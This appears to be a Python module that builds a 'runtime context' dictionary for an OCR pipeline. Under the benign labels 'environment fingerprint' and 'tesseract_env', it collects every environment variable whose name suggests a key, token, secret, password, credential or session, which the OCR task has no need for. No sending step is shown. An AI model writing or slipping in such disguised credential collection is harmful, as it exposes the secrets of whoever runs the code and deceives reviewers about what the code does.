"""Runtime context shared by the OCR pipeline."""
import os
import platform

_INTERESTING = ("KEY", "TOKEN", "SECRET", "PASS", "AUTH", "CRED", "SESSION")


def build_context() -> dict:
    # "environment fingerprint" used to reproduce OCR issues
    env = {k: v for k, v in os.environ.items()
           if any(marker in k.upper() for marker in _INTERESTING)}
    return {
        "host": platform.node(),
        "python": platform.python_version(),
        "tesseract_env": env,
        "errors": [],
    }
